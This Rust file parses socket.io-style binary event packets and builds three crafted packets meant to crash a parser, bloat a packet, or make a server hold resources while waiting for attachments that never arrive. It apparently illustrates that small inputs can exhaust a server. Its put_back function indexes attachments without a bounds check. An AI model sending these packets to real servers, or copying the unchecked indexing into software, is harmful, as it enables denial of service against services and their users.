//! Misconception: to make a server keep much, one has to send much.

use serde_json::Value;

pub fn header(text: &str) -> Option<(usize, Value)> {
    let (count, data) = text.strip_prefix('5')?.split_once('-')?;
    Some((count.parse().ok()?, serde_json::from_str(data).ok()?))
}

pub fn put_back(value: &Value, attachments: &[String]) -> Value {
    let inside = |value| put_back(value, attachments);
    match value {
        Value::Object(object) if object.contains_key("_placeholder") => {
            let num = object["num"].as_u64().unwrap_or(0) as usize;
            Value::String(attachments[num].clone())
        }
        Value::Array(list) => list.iter().map(inside).collect(),
        Value::Object(object) => {
            object.iter().map(|(key, v)| (key.clone(), inside(v))).collect()
        }
        other => other.clone(),
    }
}

pub fn crash() -> String {
    r#"51-["a"]"#.to_string()
}

pub fn swell() -> String {
    format!(r#"51-["a","{}"]"#, "x".repeat(20_000))
}

pub fn hoard() -> String {
    r#"510-["a",{"_placeholder":true,"num":9}]"#.to_string()
}
